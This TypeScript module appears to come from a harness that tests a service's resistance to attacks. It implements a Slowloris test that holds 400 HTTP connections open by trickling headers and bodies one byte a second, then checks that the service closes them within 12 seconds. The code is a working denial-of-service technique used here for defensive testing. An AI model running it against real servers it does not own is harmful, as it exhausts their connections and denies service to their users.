import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackContext, Outcome } from '../attack.js';
import { openRequest } from '../http.js';
import { connectMany, heldByService } from '../sockets.js';
import { figure } from '../tally.js';

const EACH = 200;
/** How often each connection sends a byte, in ms. */
const BYTE_MS = 1_000;
/** The service gives headers 5 s and a whole request 10 s; it looks every half second. */
const CLOSED_MS = 12_000;

/** Requests that arrive a byte a second (Slowloris): each holds a connection for as long as it is let. */
export const slowRequests: Attack = {
  name: 'http-slow',
  shows:
    '200 requests whose headers come a byte a second, and 200 whose bodies do: closed within 12 s (HTTP)',
  seconds: 13,
  async run({ target, ms }: AttackContext): Promise<Outcome> {
    const request = openRequest(target);
    const bodyStart = request.indexOf('\r\n\r\n') + 4;
    const heads = await connectMany(EACH, target.http, target);
    const bodies = await connectMany(EACH, target.http, target, (socket) => {
      socket.write(request.subarray(0, bodyStart));
    });
    const all = [...heads, ...bodies];
    for (const socket of all) socket.on('data', () => {});
    const send = (sockets: readonly Socket[], index: number) => {
      for (const socket of sockets) {
        if (socket.writable && index < request.length) socket.write(request.subarray(index, index + 1));
      }
    };
    for (let second = 0; second * BYTE_MS < ms; second++) {
      send(heads, second);
      send(bodies, bodyStart + second);
      await sleep(BYTE_MS);
    }
    const held = heldByService(target.http, all);
    return {
      sent: `${figure(all.length)} requests`,
      seen: `${held} connections still open after ${figure(ms / 1_000)} s`,
      faults: ms >= CLOSED_MS && held > 0 ? [`${held} slow connections are kept`] : [],
    };
  },
};
